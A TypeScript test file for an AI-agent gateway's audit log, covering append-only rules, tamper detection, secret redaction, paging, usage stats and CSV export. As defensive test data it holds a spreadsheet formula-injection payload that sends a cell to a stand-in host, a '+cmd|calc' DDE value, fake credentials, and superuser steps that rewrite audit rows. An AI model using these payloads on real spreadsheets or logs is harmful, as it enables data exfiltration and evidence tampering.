import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseWitness } from '../../src/audit/chain.js';
import { auditVerify } from '../../src/audit/commands.js';
import { AUDIT_COLUMN_NAMES, type AuditRecord } from '../../src/audit/record.js';
import { REDACTED } from '../../src/audit/redact.js';
import { intentRow, resultRow, resultSourceFromIntent } from '../../src/audit/rows.js';
import { AUDIT_WRITER_ROLE, createWriterPool, csvCells } from '../../src/audit/service.js';
import { bearer, TestContext } from '../helpers/context.js';
import { agentPrincipal, callContext } from './audit-fixtures.js';

const ctx = new TestContext();
let app: FastifyInstance;
let db: pg.Pool;
let owner: string;

const allow = { decision: 'allow', code: 'OK', message: 'allowed' } as const;
const deny = { decision: 'deny', code: 'PERMISSION_DENIED', message: 'needs storage:write' } as const;

beforeAll(async () => {
  await ctx.setup();
  app = await ctx.app();
  db = ctx.pool();
  owner = await ctx.operatorKey(app, 'owner');
});
afterAll(async () => {
  await ctx.teardown();
});

async function rowsOf(sql: string, args: unknown[] = []): Promise<AuditRecord[]> {
  return (await db.query<AuditRecord>(sql, args)).rows;
}

describe('writing', () => {
  it('an allow INTENT is in Postgres when recordIntent resolves; its RESULT follows with the same decision id', async () => {
    const call = callContext();
    await app.ctx.audit.recordIntent(intentRow(call, allow));
    const [intent] = await rowsOf('SELECT * FROM audit_events WHERE decision_id = $1', [call.decisionId]);
    expect(intent).toMatchObject({ kind: 'INTENT', decision: 'allow', code: 'OK', token_id: call.agent.id, server: 'filesystem', tool: 'write_file', ai_client: 'Claude Desktop' });

    app.ctx.audit.enqueue(resultRow(call, { status: 'success', duration_ms: 42, result_bytes: 1234, rows: 3 }));
    await app.ctx.audit.writer.flush();
    const pair = await rowsOf('SELECT * FROM audit_events WHERE decision_id = $1 ORDER BY seq', [call.decisionId]);
    expect(pair.map((r) => r.kind)).toEqual(['INTENT', 'RESULT']);
    expect(pair[1]).toMatchObject({ result_status: 'success', duration_ms: 42, result_bytes: 1234, rows: 3, replica_id: pair[0]!.replica_id });
    expect(pair[1]!.seq).toBeGreaterThan(pair[0]!.seq);
    expect(pair[1]!.ts.getTime()).toBeGreaterThanOrEqual(pair[0]!.ts.getTime());

    // The result route may only have the decision id: the stored INTENT gives the rest.
    const stored = await app.ctx.audit.findIntent(call.decisionId);
    const source = resultSourceFromIntent(stored!, { gateway: call.gateway, ip: '10.0.0.8' });
    expect(resultRow(source, { status: 'ok' })).toMatchObject({ decision_id: call.decisionId, token_id: call.agent.id, server: 'filesystem', tool: 'write_file', capability: 'write' });
  });

  it('denials and allows from many concurrent callers land in one gap-free chain, in the order they were recorded', async () => {
    const calls = Array.from({ length: 300 }, () => callContext());
    const done: Promise<void>[] = [];
    calls.forEach((c, i) => {
      if (i % 3 === 0) app.ctx.audit.enqueue(intentRow(c, deny));
      else done.push(app.ctx.audit.recordIntent(intentRow(c, allow)));
    });
    await Promise.all(done);
    await app.ctx.audit.writer.flush();
    const rows = await rowsOf('SELECT decision_id, seq, replica_id FROM audit_events WHERE decision_id = ANY($1) ORDER BY seq', [calls.map((c) => c.decisionId)]);
    expect(rows.map((r) => r.decision_id)).toEqual(calls.map((c) => c.decisionId));
    expect(new Set(rows.map((r) => r.replica_id)).size).toBe(1);
    const report = await app.ctx.audit.verify();
    expect(report.ok).toBe(true);
  });
});

describe('append-only', () => {
  it('the writer role may INSERT and SELECT but UPDATE, DELETE and TRUNCATE fail', async () => {
    await app.ctx.audit.recordIntent(intentRow(callContext(), allow));
    const writer = createWriterPool(ctx.databaseUrl);
    try {
      const who = await writer.query<{ current_user: string }>('SELECT current_user');
      expect(who.rows[0]!.current_user).toBe(AUDIT_WRITER_ROLE);
      expect((await writer.query('SELECT count(*) FROM audit_events')).rows[0].count).toBeGreaterThan(0);
      for (const sql of ["UPDATE audit_events SET message = 'x'", 'DELETE FROM audit_events', 'TRUNCATE audit_events', 'DELETE FROM audit_anchors', "SELECT audit_apply_retention(now())"]) {
        await expect(writer.query(sql), sql).rejects.toMatchObject({ code: '42501' });
      }
      // Not even through a partition.
      const part = (await db.query<{ relname: string }>("SELECT c.relname FROM pg_inherits i JOIN pg_class c ON c.oid = i.inhrelid WHERE i.inhparent = 'audit_events'::regclass LIMIT 1")).rows[0]!.relname;
      await expect(writer.query(`DELETE FROM ${part}`)).rejects.toMatchObject({ code: '42501' });
    } finally {
      await writer.end();
    }
  });

  it('the owner is refused UPDATE, DELETE and TRUNCATE too, on the table and on each partition', async () => {
    const count = async () => (await db.query('SELECT count(*) FROM audit_events')).rows[0].count as number;
    const before = await count();
    const parts = (await db.query<{ relname: string }>("SELECT c.relname FROM pg_inherits i JOIN pg_class c ON c.oid = i.inhrelid WHERE i.inhparent = 'audit_events'::regclass")).rows.map((r) => r.relname);
    const withRows = (await db.query<{ p: string }>('SELECT DISTINCT tableoid::regclass::text AS p FROM audit_events')).rows.map((r) => r.p);
    expect(withRows.length).toBeGreaterThan(0);
    // Row triggers fire per row: DELETE is tried where rows are; TRUNCATE on every partition.
    const attempts = [
      "UPDATE audit_events SET message = 'x'",
      'DELETE FROM audit_events',
      'TRUNCATE audit_events',
      ...parts.map((p) => `TRUNCATE ${p}`),
      ...withRows.flatMap((p) => [`DELETE FROM ${p}`, `UPDATE ${p} SET hash = 'x'`]),
    ];
    for (const sql of attempts) {
      await expect(db.query(sql), sql).rejects.toThrow(/append-only/);
    }
    // The retention flag is transaction-local to the retention function; setting it by hand for UPDATE does nothing.
    await expect(db.query("SELECT set_config('killswitch.audit_retention', 'on', false); UPDATE audit_events SET message = 'x'")).rejects.toThrow(/append-only/);
    await db.query("SELECT set_config('killswitch.audit_retention', '', false)");
    expect(await count()).toBe(before);
  });
});

describe('tamper evidence', () => {
  it('a row modified by a superuser (triggers off) makes verify point at exactly that row, and the CLI exits 1 naming it', async () => {
    const calls = Array.from({ length: 20 }, () => callContext());
    for (const c of calls) await app.ctx.audit.recordIntent(intentRow(c, allow));
    expect((await app.ctx.audit.verify()).ok).toBe(true);
    expect((await auditVerify(ctx.config())).code).toBe(0);

    const [victim] = await rowsOf('SELECT * FROM audit_events WHERE decision_id = $1', [calls[10]!.decisionId]);
    const client = await db.connect();
    try {
      await client.query('SET session_replication_role = replica');
      await client.query(`UPDATE audit_events SET arguments = '{"path": "nothing-to-see.md"}' WHERE id = $1`, [victim!.id]);
      await client.query('SET session_replication_role = origin');
    } finally {
      client.release();
    }
    const report = await app.ctx.audit.verify();
    expect(report.ok).toBe(false);
    expect(report.broken).toHaveLength(1);
    expect(report.broken[0]).toMatchObject({ id: victim!.id, seq: victim!.seq, replica_id: victim!.replica_id });
    expect(report.broken[0]!.reason).toMatch(/modified/);

    const cli = await auditVerify(ctx.config());
    expect(cli.code).toBe(1);
    expect(cli.output).toContain(`id=${victim!.id}`);
    const http = await app.inject({ method: 'GET', url: '/v1/audit/verify', headers: bearer(owner) });
    expect(http.json().broken[0].id).toBe(victim!.id);
    // The API's report has the count of broken rows and the chains still open (this replica's is).
    expect(http.json()).toMatchObject({ broken_rows: 1, open: expect.arrayContaining([expect.objectContaining({ replica_id: victim!.replica_id })]) });

    // Put it back: the rest of this file needs a chain that verifies.
    const fix = await db.connect();
    try {
      await fix.query('SET session_replication_role = replica');
      await fix.query('UPDATE audit_events SET arguments = $2 WHERE id = $1', [victim!.id, JSON.stringify(victim!.arguments)]);
    } finally {
      fix.release();
    }
    expect((await app.ctx.audit.verify()).ok).toBe(true);
  });
});

describe('witnessed chain heads (audit chain head → audit verify --expect)', () => {
  const heads = () =>
    ctx.logs.lines
      .map((l) => JSON.parse(l) as { msg: string; audit_head?: string })
      .filter((l) => l.msg === 'audit chain head')
      .map((l) => l.audit_head!);

  it('a new chain is witnessed as soon as its first rows are in Postgres, not an interval later', async () => {
    const other = await ctx.app();
    await other.ctx.audit.recordIntent(intentRow(callContext(), allow));
    const replica = other.ctx.audit.writer.replicaId!;
    expect(heads().filter((h) => h.startsWith(`${replica}:`)).length).toBeGreaterThanOrEqual(1);
  });

  it('a tail removed by a superuser leaves a chain that verifies, but not the position logged outside the database', async () => {
    const calls = Array.from({ length: 6 }, () => callContext());
    for (const c of calls) await app.ctx.audit.recordIntent(intentRow(c, allow));
    await app.ctx.audit.writer.flush();
    app.ctx.audit.logHead();
    app.ctx.audit.logHead(); // unchanged: logged once
    const logged = heads().at(-1)!;
    expect(heads().filter((h) => h === logged)).toHaveLength(1);
    const witness = parseWitness(logged)!;
    const [last] = await rowsOf('SELECT * FROM audit_events WHERE decision_id = $1', [calls[5]!.decisionId]);
    expect(witness).toEqual({ replica_id: last!.replica_id, seq: Number(last!.seq), hash: last!.hash });
    expect((await auditVerify(ctx.config(), { expect: [witness] })).code).toBe(0);
    const forged = await auditVerify(ctx.config(), { expect: [{ ...witness, hash: 'f'.repeat(64) }] });
    expect(forged.code).toBe(1);
    expect(forged.output).toMatch(/MISMATCH: the row at this position has hash/);

    // The last three rows go; what remains is a shorter chain that still verifies on its own.
    const tail = await rowsOf('SELECT * FROM audit_events WHERE replica_id = $1 AND seq > $2 ORDER BY seq', [witness.replica_id, witness.seq - 3]);
    expect(tail).toHaveLength(3);
    const client = await db.connect();
    try {
      await client.query('SET session_replication_role = replica');
      await client.query('DELETE FROM audit_events WHERE replica_id = $1 AND seq > $2', [witness.replica_id, witness.seq - 3]);
    } finally {
      await client.query('SET session_replication_role = origin');
      client.release();
    }
    expect((await auditVerify(ctx.config())).code).toBe(0);
    const cut = await auditVerify(ctx.config(), { expect: [witness] });
    expect(cut.code).toBe(1);
    expect(cut.output).toContain(`witnessed ${witness.replica_id}:${witness.seq}: MISSING: the chain now ends at seq ${witness.seq - 3}, before this witnessed position: rows were removed from its end`);

    // Put them back: the rest of this file needs the chain whole.
    const fix = await db.connect();
    try {
      await fix.query('SET session_replication_role = replica');
      await fix.query('INSERT INTO audit_events SELECT * FROM json_populate_recordset(NULL::audit_events, $1)', [JSON.stringify(tail)]);
    } finally {
      await fix.query('SET session_replication_role = origin');
      fix.release();
    }
    expect((await auditVerify(ctx.config(), { expect: [witness] })).code).toBe(0);
  });

  it('a chain retention removed whole is RETENTION, not a false alarm; an anchor inside a chain is a break; a witness past a break is still read', async () => {
    const calls = Array.from({ length: 4 }, () => callContext());
    for (const c of calls) await app.ctx.audit.recordIntent(intentRow(c, allow));
    await app.ctx.audit.writer.flush();
    const rows = await rowsOf('SELECT * FROM audit_events WHERE replica_id = $1 ORDER BY seq', [app.ctx.audit.writer.replicaId]);
    const last = rows.at(-1)!;
    const head = { replica_id: last.replica_id, seq: Number(last.seq), hash: last.hash };
    const earlier = { replica_id: last.replica_id, seq: Number(last.seq) - 2, hash: rows.at(-3)!.hash };
    const asSuperuser = async (f: (c: pg.PoolClient) => Promise<unknown>) => {
      const c = await db.connect();
      try {
        await c.query('SET session_replication_role = replica');
        await f(c);
      } finally {
        await c.query('SET session_replication_role = origin');
        c.release();
      }
    };
    const restore = () => asSuperuser((c) => c.query('INSERT INTO audit_events SELECT * FROM json_populate_recordset(NULL::audit_events, $1)', [JSON.stringify(rows)]));

    // As retention leaves it when a chain's last row is older than the cutoff: no row, one anchor at its end,
    // at a cut older than AUDIT_RETENTION_DAYS (a younger one is SUSPICIOUS: audit-anchors.test.ts).
    await asSuperuser(async (c) => {
      await c.query('DELETE FROM audit_events WHERE replica_id = $1', [head.replica_id]);
      await c.query("INSERT INTO audit_anchors (replica_id, seq, hash, ts, cut_before) VALUES ($1, $2, $3, now() - interval '400 days', now() - interval '399 days')", [head.replica_id, head.seq, head.hash]);
    });
    const gone = await auditVerify(ctx.config(), { expect: [earlier, head] });
    expect(gone.output).toContain(`witnessed ${earlier.replica_id}:${earlier.seq}: RETENTION: removed by retention with the rest of its chain`);
    expect(gone.output).toContain(`witnessed ${head.replica_id}:${head.seq}: RETENTION`);
    expect(gone.code).toBe(0);
    await restore();
    // The same anchor while the chain still has its rows: retention never anchors inside a chain.
    const forged = await auditVerify(ctx.config());
    expect(forged.code).toBe(1);
    expect(forged.output).toContain(`a retention anchor at seq ${head.seq} lies inside the rows the chain still has`);
    await asSuperuser((c) => c.query('DELETE FROM audit_anchors WHERE replica_id = $1', [head.replica_id]));
    expect((await auditVerify(ctx.config(), { expect: [head] })).code).toBe(0);

    // A row modified before the head: the break is reported, and the head is still checked (not MISSING).
    const victim = rows.at(-3)!;
    await asSuperuser((c) => c.query(`UPDATE audit_events SET message = 'rewritten' WHERE id = $1`, [victim.id]));
    const broken = await auditVerify(ctx.config(), { expect: [head, { ...head, hash: 'e'.repeat(64) }] });
    expect(broken.code).toBe(1);
    expect(broken.output).toContain(`witnessed ${head.replica_id}:${head.seq}: OK: the row is there with this hash (the chain is broken at or before it: see above)`);
    expect(broken.output).toContain(`witnessed ${head.replica_id}:${head.seq}: MISMATCH`);
    await asSuperuser((c) => c.query('UPDATE audit_events SET message = $2 WHERE id = $1', [victim.id, victim.message]));
    expect((await auditVerify(ctx.config(), { expect: [head] })).code).toBe(0);
  });
});

describe('redaction', () => {
  it('secrets in arguments never reach the table; the rest of the arguments are kept in full', async () => {
    const secrets = ['hunter2', 'sk_live_abcdefghijklmnop1234', 'AKIAIOSFODNN7EXAMPLE', 'MIIEowIBAAKCAQEAzzz', 'p4ssw0rd', 'mcp_rw_AbCdEfGhIjKlMnOpQrStUv123456', 'abc.def.ghijklmnop'];
    const call = callContext({
      server: 'postgres',
      tool: 'query',
      capability: 'read',
      arguments: {
        sql: 'SELECT * FROM orders WHERE id = 7',
        password: 'hunter2',
        config: { stripe_key: 'sk_live_abcdefghijklmnop1234', region: 'eu-west-1' },
        env: 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE',
        key_file: '-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEAzzz\n-----END PRIVATE KEY-----',
        dsn: 'postgres://app:p4ssw0rd@db.internal:5432/orders',
        note: 'the agent token is mcp_rw_AbCdEfGhIjKlMnOpQrStUv123456',
        headers: { authorization: 'Bearer abc.def.ghijklmnop' },
      },
    });
    await app.ctx.audit.recordIntent(intentRow(call, allow));
    const [row] = await rowsOf('SELECT * FROM audit_events WHERE decision_id = $1', [call.decisionId]);
    const stored = JSON.stringify(row);
    for (const s of secrets) expect(stored, s).not.toContain(s);
    expect(row!.arguments).toMatchObject({
      sql: 'SELECT * FROM orders WHERE id = 7',
      password: REDACTED,
      config: { region: 'eu-west-1' },
      dsn: `postgres://app:${REDACTED}@db.internal:5432/orders`,
      headers: { authorization: REDACTED },
    });
  });
});

describe('read side', () => {
  const tokenA = agentPrincipal({ projectId: 'proj-a' });
  const tokenB = agentPrincipal({ projectId: 'proj-b', tokenType: 'ro' });

  beforeAll(async () => {
    for (let i = 0; i < 25; i++) {
      const c = callContext({ agent: i % 5 === 0 ? tokenB : tokenA, sessionId: 's-read' });
      if (i % 4 === 0) app.ctx.audit.enqueue(intentRow(c, deny));
      else await app.ctx.audit.recordIntent(intentRow(c, allow));
    }
    await app.ctx.audit.writer.flush();
  });

  it('GET /v1/audit pages newest first with a cursor, every row once', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res = await app.inject({ method: 'GET', url: `/v1/audit?session=s-read&limit=10${cursor ? `&cursor=${cursor}` : ''}`, headers: bearer(owner) });
      expect(res.statusCode).toBe(200);
      const body = res.json() as { events: Array<{ id: string; ts: string }>; next: string | null };
      seen.push(...body.events.map((e) => e.id));
      const ts = body.events.map((e) => e.ts);
      expect([...ts].sort().reverse()).toEqual(ts);
      cursor = body.next;
      pages++;
    } while (cursor);
    expect(pages).toBe(3);
    expect(new Set(seen).size).toBe(25);
  });

  it('filters by token, type, decision and code', async () => {
    const get = async (q: string) => (await app.inject({ method: 'GET', url: `/v1/audit?session=s-read&limit=1000&${q}`, headers: bearer(owner) })).json().events as AuditRecord[];
    expect(await get(`token=${tokenB.id}`)).toHaveLength(5);
    expect((await get('type=ro')).every((e) => e.token_type === 'ro')).toBe(true);
    const denied = await get('decision=deny&code=PERMISSION_DENIED');
    expect(denied).toHaveLength(7);
    expect((await app.inject({ method: 'GET', url: '/v1/audit?bogus=1', headers: bearer(owner) })).statusCode).toBe(400);
    expect((await app.inject({ method: 'GET', url: '/v1/audit?cursor=nonsense', headers: bearer(owner) })).json().error.code).toBe('INVALID_REQUEST');
  });

  it('a date-time no Date can hold, or a cursor with a malformed id, is a 400 naming the field, not a 500', async () => {
    const leap = encodeURIComponent('2024-12-31T23:59:60Z');
    for (const url of [`/v1/audit?from=${leap}`, `/v1/audit?to=${leap}`, `/v1/usage?from=${leap}`, `/v1/usage/monthly?to=${leap}`, `/v1/incidents/timeline?from=${leap}`, `/v1/alerts?from=${leap}`]) {
      const res = await app.inject({ method: 'GET', url, headers: bearer(owner) });
      expect(res.statusCode, url).toBe(400);
      expect(res.json().error.message, url).toMatch(/^(from|to): /);
    }
    const cursor = Buffer.from(JSON.stringify([new Date().toISOString(), '-'.repeat(36)])).toString('base64url');
    const res = await app.inject({ method: 'GET', url: `/v1/audit?cursor=${cursor}`, headers: bearer(owner) });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.details[0].field).toBe('cursor');
  });

  it('a project-limited operator sees only its projects', async () => {
    const limited = await ctx.operatorKey(app, 'viewer', ['proj-b']);
    const res = await app.inject({ method: 'GET', url: '/v1/audit?session=s-read&limit=1000', headers: bearer(limited) });
    const events = res.json().events as AuditRecord[];
    expect(events).toHaveLength(5);
    expect(events.every((e) => e.project_id === 'proj-b')).toBe(true);
  });

  it('CSV exports neutralise cells a spreadsheet would run as a formula (an agent names its client =HYPERLINK(...))', async () => {
    const call = callContext({ sessionId: 's-formula' });
    call.input.client = { name: '=HYPERLINK("https://x.example/?"&A1,"open")', version: '1', user_agent: '+cmd|calc' };
    await app.ctx.audit.recordIntent(intentRow(call, allow));
    const res = await app.inject({ method: 'GET', url: '/v1/audit/export?format=csv&session=s-formula', headers: bearer(owner) });
    const [header, row] = parse(res.body, { columns: false }) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('client_name')).toBe(`'=HYPERLINK("https://x.example/?"&A1,"open")`);
    expect(cell('user_agent')).toBe(`'+cmd|calc`);
    for (const c of row!) expect(c).not.toMatch(/^[=+@\t\r]/);
  });

  it('CSV export parses back to the same rows; JSON Lines too', async () => {
    const res = await app.inject({ method: 'GET', url: '/v1/audit/export?format=csv&session=s-read', headers: bearer(owner) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const parsed = parse(res.body, { columns: false }) as string[][];
    expect(parsed[0]).toEqual(AUDIT_COLUMN_NAMES);
    const expected = (await rowsOf("SELECT * FROM audit_events WHERE session_id = 's-read' ORDER BY ts, id")).map(csvCells);
    expect(parsed.slice(1)).toEqual(expected);
    const back = parsed.slice(1).map((cells) => Object.fromEntries(AUDIT_COLUMN_NAMES.map((c, i) => [c, cells[i]])));
    expect(JSON.parse(back[0]!['arguments']!)).toEqual((await rowsOf("SELECT * FROM audit_events WHERE session_id = 's-read' ORDER BY ts, id"))[0]!.arguments);

    const jl = await app.inject({ method: 'GET', url: '/v1/audit/export?format=jsonl&session=s-read', headers: bearer(owner) });
    const lines = jl.body.trim().split('\n').map((l) => JSON.parse(l) as AuditRecord);
    expect(lines.map((l) => l.hash)).toEqual(expected.map((cells) => cells[AUDIT_COLUMN_NAMES.indexOf('hash')]));
  });
});

describe('usage', () => {
  it('per-token calls, allow/deny, operations, success/error rate, last used and per day match the calls made', async () => {
    const t1 = agentPrincipal({ projectId: 'proj-u' });
    const t2 = agentPrincipal({ projectId: 'proj-u', tokenType: 'ro' });
    const made: { t1Last?: Date } = {};
    // t1: 4 write_file allowed (3 success, 1 error), 2 read_file allowed (both success), 2 write_file denied.
    for (let i = 0; i < 4; i++) {
      const c = callContext({ agent: t1 });
      await app.ctx.audit.recordIntent(intentRow(c, allow));
      app.ctx.audit.enqueue(resultRow(c, { status: i < 3 ? 'success' : 'error', duration_ms: 10, result_bytes: 100, error: i < 3 ? undefined : 'EACCES' }));
    }
    for (let i = 0; i < 2; i++) {
      const c = callContext({ agent: t1, tool: 'read_file', capability: 'read' });
      await app.ctx.audit.recordIntent(intentRow(c, allow));
      app.ctx.audit.enqueue(resultRow(c, { status: 'success', duration_ms: 20, result_bytes: 10 }));
    }
    for (let i = 0; i < 2; i++) app.ctx.audit.enqueue(intentRow(callContext({ agent: t1 }), deny));
    // t2: one denied call, no results.
    app.ctx.audit.enqueue(intentRow(callContext({ agent: t2, tool: 'read_file', capability: 'read' }), deny));
    await app.ctx.audit.writer.flush();
    made.t1Last = (await rowsOf("SELECT max(ts) AS ts FROM audit_events WHERE token_id = $1 AND kind = 'INTENT'", [t1.id]))[0]!.ts;

    const res = await app.inject({ method: 'GET', url: '/v1/usage?project=proj-u', headers: bearer(owner) });
    expect(res.statusCode).toBe(200);
    const { tokens } = res.json() as { tokens: Array<Record<string, unknown> & { operations: Array<Record<string, unknown>>; per_day: Array<Record<string, unknown>> }> };
    expect(tokens.map((t) => t['token_id'])).toEqual([t1.id, t2.id]);
    const u1 = tokens[0]!;
    expect(u1).toMatchObject({ token_type: 'rw', project_id: 'proj-u', calls: 8, allowed: 6, denied: 2, results: 6, successes: 5, errors: 1, last_used: made.t1Last!.toISOString() });
    expect(u1['success_rate']).toBeCloseTo(5 / 6);
    expect(u1['error_rate']).toBeCloseTo(1 / 6);
    expect(u1['avg_duration_ms']).toBeCloseTo((4 * 10 + 2 * 20) / 6);
    expect(u1.operations).toEqual([
      { server: 'filesystem', tool: 'read_file', capability: 'read', calls: 2, allowed: 2, denied: 0, results: 2, successes: 2, errors: 0 },
      { server: 'filesystem', tool: 'write_file', capability: 'write', calls: 6, allowed: 4, denied: 2, results: 4, successes: 3, errors: 1 },
    ]);
    const today = new Date().toISOString().slice(0, 10);
    expect(u1.per_day).toEqual([{ day: today, calls: 8, allowed: 6, denied: 2, results: 6, successes: 5, errors: 1 }]);
    expect(tokens[1]).toMatchObject({ calls: 1, allowed: 0, denied: 1, results: 0, success_rate: null });

    const csv = await app.inject({ method: 'GET', url: '/v1/usage?project=proj-u&format=csv', headers: bearer(owner) });
    const lines = parse(csv.body, { columns: true }) as Array<Record<string, string>>;
    const tokenLine = lines.find((l) => l['group'] === 'token' && l['token_id'] === t1.id)!;
    expect(tokenLine).toMatchObject({ calls: '8', allowed: '6', denied: '2', successes: '5', errors: '1' });
    expect(lines.filter((l) => l['group'] === 'operation' && l['token_id'] === t1.id)).toHaveLength(2);

    const monthly = await app.inject({ method: 'GET', url: `/v1/usage/monthly?token=${t1.id}`, headers: bearer(owner) });
    const months = monthly.json().months as Array<Record<string, unknown>>;
    expect(months.reduce((n, m) => n + (m['calls'] as number), 0)).toBe(8);
  });
});

describe('admin actions', () => {
  it('creating and revoking an agent token are ADMIN rows naming the operator, never the raw token', async () => {
    const created = await app.inject({
      method: 'POST',
      url: '/v1/keys',
      headers: bearer(owner),
      payload: { type: 'ro', role: 'code_agent', project_id: 'proj-k', environment: 'development' },
    });
    expect(created.statusCode).toBe(201);
    const { token, key } = created.json() as { token: string; key: { id: string } };
    const revoked = await app.inject({ method: 'POST', url: `/v1/keys/${key.id}/revoke`, headers: bearer(owner), payload: { reason: 'leaked in a log' } });
    expect(revoked.statusCode).toBe(200);
    const rows = await rowsOf("SELECT * FROM audit_events WHERE kind = 'ADMIN' AND target = $1 ORDER BY seq", [`agent_token:${key.id}`]);
    expect(rows.map((r) => r.action)).toEqual(['key.created', 'key.revoked']);
    expect(rows.every((r) => r.actor_type === 'operator' && r.project_id === 'proj-k')).toBe(true);
    expect(rows[1]!.details).toMatchObject({ reason: 'leaked in a log' });
    expect(JSON.stringify(rows)).not.toContain(token.slice(7));
  });
});
